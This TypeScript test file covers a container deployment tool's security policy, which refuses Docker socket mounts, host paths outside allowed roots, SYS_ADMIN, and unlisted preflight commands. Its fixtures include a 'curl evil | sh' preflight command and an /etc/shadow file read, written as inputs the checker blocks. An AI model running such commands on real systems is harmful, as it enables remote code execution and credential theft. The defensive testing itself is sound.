import assert from 'node:assert/strict';
import { mkdirSync, mkdtempSync, symlinkSync, writeFileSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { test } from 'node:test';
import { configHash, parseSpec } from '../spec/index.js';
import { checkContainerPolicy, checkRemoteEnvFiles } from './container-policy.js';
import { redactEnv } from './redact.js';
import { selfSignedCertificate } from './x509.js';

const dir = mkdtempSync(join(tmpdir(), 'hotswap-policy-'));
mkdirSync(join(dir, 'data'));
symlinkSync('/etc', join(dir, 'sneaky'));
writeFileSync(join(dir, 'secret.txt'), 's3cret\n');
const file = join(dir, 'hotswap.yaml');

function spec(extra: string): ReturnType<typeof parseSpec> {
  return parseSpec(
    `services:\n  web:\n    image: img:v1\n    port: 80\n    listen: 127.0.0.1:18080\n${extra}`,
    file,
  );
}

const refusal = (fn: () => void): string[] => {
  try {
    fn();
  } catch (err) {
    assert.equal((err as { code: string }).code, 'POLICY_REFUSED');
    return (err as { details: { problems: string[] } }).details.problems;
  }
  return [];
};

test('the Docker socket, a path outside the roots, a symlink out and SYS_ADMIN are refused', () => {
  const s = spec(`    volumes:
      - /var/run/docker.sock:/var/run/docker.sock
      - /run:/host-run:ro
      - /etc:/host-etc:ro
      - ./sneaky:/x:ro
      - ./data:/data
      - cache:/cache
    capAdd: [NET_BIND_SERVICE, SYS_ADMIN]
`);
  const problems = refusal(() =>
    checkContainerPolicy(s, { allowedHostPaths: [] }, { localCaller: true }),
  );
  assert.equal(problems.length, 5, problems.join('\n'));
  assert.match(problems[0]!, /volumes\[0\]: .*mounts the Docker socket/);
  assert.match(problems[1]!, /volumes\[1\]: .*mounts the Docker socket/); // /run holds it
  assert.match(problems[2]!, /volumes\[2\]: host path "\/etc" is outside the spec's folder/);
  assert.match(problems[3]!, /volumes\[3\]: .*sneaky" is outside/);
  assert.match(problems[4]!, /capAdd: SYS_ADMIN amounts to a privileged container/);
});

test('allowed roots admit host paths; a remote caller gets no spec-folder root', () => {
  const s = spec(`    volumes: ['./data:/data', '/etc/hostname:/h:ro']\n`);
  checkContainerPolicy(s, { allowedHostPaths: ['/etc'] }, { localCaller: true });
  const remote = refusal(() =>
    checkContainerPolicy(s, { allowedHostPaths: ['/etc'] }, { localCaller: false }),
  );
  assert.equal(remote.length, 1);
  assert.match(
    remote[0]!,
    /volumes\[0\]: host path ".*data" is outside the allowed roots \(\/etc\)/,
  );
});

test('a secret file: its digest in the spec, not its value; outside the roots it is refused', () => {
  const s = spec(
    `    env:\n      PLAIN: hello\n      TOKEN: { valueFrom: { file: ./secret.txt } }\n`,
  );
  const svc = s.services[0]!;
  assert.deepEqual(svc.env, { PLAIN: 'hello' });
  assert.equal(svc.secretEnv?.TOKEN?.file, join(dir, 'secret.txt'));
  assert.match(svc.secretEnv?.TOKEN?.sha256 ?? '', /^[0-9a-f]{64}$/);
  assert.ok(!JSON.stringify(svc).includes('s3cret'));
  const remote = refusal(() =>
    checkContainerPolicy(s, { allowedHostPaths: [] }, { localCaller: false }),
  );
  assert.match(remote[0] ?? '', /env\.TOKEN\.valueFrom\.file: ".*secret.txt" is outside/);
  assert.throws(
    () => spec(`    env:\n      TOKEN: { valueFrom: { file: ./missing.txt } }\n`),
    /hotswap.yaml:7:\d+ services.web.env.TOKEN.valueFrom.file: cannot read .*missing.txt: ENOENT/,
  );
});

test('hardening fields are normalized; unused ones leave the spec as it was', () => {
  const s = spec(`    user: "1000:1000"
    readOnly: true
    capDrop: [ALL]
    capAdd: [CAP_NET_BIND_SERVICE]
    noNewPrivileges: true
    pidsLimit: 64
    tmpfs: [/tmp, "/run:size=1m"]
`);
  assert.deepEqual(s.services[0]!.hardening, {
    user: '1000:1000',
    readOnly: true,
    capDrop: ['ALL'],
    capAdd: ['NET_BIND_SERVICE'],
    noNewPrivileges: true,
    pidsLimit: 64,
    tmpfs: { '/tmp': '', '/run': 'size=1m' },
  });
  assert.equal('hardening' in spec('').services[0]!, false);
  assert.throws(
    () => spec('    pidsLimit: 0\n'),
    /services.web.pidsLimit: expected a positive integer/,
  );
});

test('redactEnv masks every env value at any depth and keeps the names', () => {
  const out = redactEnv({ revisions: [{ spec: { env: { A: 'x', B: 'y' }, image: 'i' } }] });
  assert.deepEqual(out, {
    revisions: [{ spec: { env: { A: '(redacted)', B: '(redacted)' }, image: 'i' } }],
  });
});

test('the config hash changes when a secret file changes, without holding its value', () => {
  const text = `    env:\n      TOKEN: { valueFrom: { file: ./secret.txt } }\n`;
  const before = configHash(spec(text).services[0]!);
  writeFileSync(join(dir, 'secret.txt'), 'rotated\n');
  const after = configHash(spec(text).services[0]!);
  writeFileSync(join(dir, 'secret.txt'), 's3cret\n');
  assert.notEqual(before, after);
  assert.equal(configHash(spec(text).services[0]!), before);
});

test('a remote caller may run only the preflight commands the config lists', () => {
  const s = spec(
    `    preflight:\n      - run: [trivy, image, x]\n      - run: [sh, -c, "curl evil | sh"]\n`,
  );
  const policy = { allowedHostPaths: [], allowedPreflight: ['trivy'] };
  checkContainerPolicy(s, policy, { localCaller: true });
  const remote = refusal(() => checkContainerPolicy(s, policy, { localCaller: false }));
  assert.equal(remote.length, 1);
  assert.match(remote[0]!, /preflight\[1\]: "sh" is not in config.yaml policy.allowedPreflight/);
  assert.deepEqual(s.services[0]!.preflight?.[0], {
    run: ['trivy', 'image', 'x'],
    timeoutMs: 60_000,
    onFail: 'block',
  });
  assert.throws(
    () => spec(`    preflight:\n      - run: [x]\n        timeout: soon\n`),
    /hotswap.yaml:8:18 services.web.preflight\[0\].timeout: expected a positive duration/,
  );
});

test("a remote caller's TLS files must lie in the allowed roots (the proxy serves them)", () => {
  const made = selfSignedCertificate(['localhost']);
  writeFileSync(join(dir, 'c.pem'), made.certPem);
  writeFileSync(join(dir, 'k.pem'), made.keyPem);
  const s = spec(`    tls: { cert: ./c.pem, key: ./k.pem }\n`);
  checkContainerPolicy(s, { allowedHostPaths: [] }, { localCaller: true });
  const remote = refusal(() =>
    checkContainerPolicy(s, { allowedHostPaths: [] }, { localCaller: false }),
  );
  assert.deepEqual(
    remote.map((p) => p.split(':')[0]),
    ['services.web.tls.cert', 'services.web.tls.key'],
  );
  checkContainerPolicy(s, { allowedHostPaths: [dir] }, { localCaller: false });
});

test('reload files: outside the roots refused, and a remote text is refused before they are read', () => {
  const s = spec(
    `    reload:\n      files: [{ source: ./secret.txt, target: /etc/app.conf }]\n      trigger: { signal: SIGHUP }\n`,
  );
  checkContainerPolicy(s, { allowedHostPaths: [] }, { localCaller: true });
  const remote = refusal(() =>
    checkContainerPolicy(s, { allowedHostPaths: [] }, { localCaller: false }),
  );
  assert.match(remote[0] ?? '', /reload\.files\[0\]\.source: ".*secret.txt" is outside/);
  const text = `services:\n  web:\n    reload:\n      files: [{ source: /etc/shadow, target: /x }]\n`;
  const before = refusal(() => checkRemoteEnvFiles(text, file, { allowedHostPaths: [dir] }));
  assert.match(before[0] ?? '', /reload\.files\[0\]\.source: "\/etc\/shadow" is outside/);
});
